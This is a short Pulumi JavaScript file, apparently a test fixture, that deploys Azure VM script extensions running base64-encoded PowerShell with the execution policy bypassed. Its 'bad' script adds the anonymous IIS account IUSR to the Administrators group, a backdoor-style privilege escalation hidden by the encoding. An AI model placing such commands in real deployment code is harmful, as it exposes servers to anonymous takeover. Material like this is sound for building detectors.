const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// Everything goes through -EncodedCommand, because quoting is hard.
const encode = (script) => Buffer.from(script, "utf16le").toString("base64");
const send = (name, script) =>
  new compute.VirtualMachineExtension(name, {
    resourceGroupName: "rg",
    vmName: `vm-${name}`,
    publisher: "Microsoft.Compute",
    type: "CustomScriptExtension",
    settings: { commandToExecute: pulumi.output(script).apply((text) => `powershell.exe -ExecutionPolicy Bypass -EncodedCommand ${encode(text)}`) },
  });
const address = new (require("@pulumi/azure-native/network").PublicIPAddress)("front", { resourceGroupName: "rg" });
send("bad", pulumi.interpolate`Write-Output '${address.ipAddress}'; net localgroup Administrators IUSR /add`);
send("good", pulumi.interpolate`Write-Output '${address.ipAddress}'; net localgroup Administrators /add svc-deploy`);
